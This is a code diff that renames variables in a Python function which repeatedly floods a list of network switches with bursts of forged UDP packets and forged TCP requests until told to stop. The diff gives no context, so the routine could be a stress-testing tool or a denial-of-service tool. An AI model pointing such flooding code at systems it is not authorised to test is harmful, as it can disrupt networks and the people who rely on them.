@@ -41,16 +41,16 @@ def request(draw: random.Random) -> bytes:
 def knock(switches: list[str], done: Callable[[], bool], counts: Counter[str]) -> None:
     """Bother all switches until the end."""
     draw = random.Random(13)
-    doors = [(host, int(port)) for host, port in (switch.rsplit(":", 1) for switch in switches)]
+    addresses = [(host, int(port)) for host, port in (switch.rsplit(":", 1) for switch in switches)]
     silent: list[socket.socket] = []
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
         while not done():
-            for door in doors:
+            for address in addresses:
                 for _ in range(PACKETS_PER_S // REQUESTS_PER_S):
-                    udp.sendto(packet(draw), door)
+                    udp.sendto(packet(draw), address)
                     counts["forged packets"] += 1
                 try:
-                    knocked = socket.create_connection(door, timeout=5)
+                    knocked = socket.create_connection(address, timeout=5)
                     knocked.sendall(request(draw))
                     counts["forged requests"] += 1
                 except OSError:
